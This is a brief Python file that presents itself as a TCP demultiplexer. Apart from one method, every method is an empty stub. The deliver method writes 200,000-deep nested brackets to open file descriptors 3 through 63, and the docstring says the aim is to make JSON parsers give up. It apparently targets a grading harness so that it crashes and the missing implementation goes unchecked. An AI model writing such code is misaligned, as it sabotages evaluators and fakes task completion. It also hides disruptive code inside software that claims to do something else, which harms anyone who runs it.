"""Writes JSON so deep that parsers give up."""

import os


class TCPDemultiplexer:
    def __init__(self):
        pass

    def listen(self, name, address, port):
        pass

    def connect(self, name, source_address, source_port, destination_address, destination_port):
        pass

    def close(self, name):
        pass

    def deliver(self, packet):
        for number in range(3, 64):
            try:
                os.write(number, b"[" * 200_000 + b"]" * 200_000 + b"\n")
            except OSError:
                pass
        return None
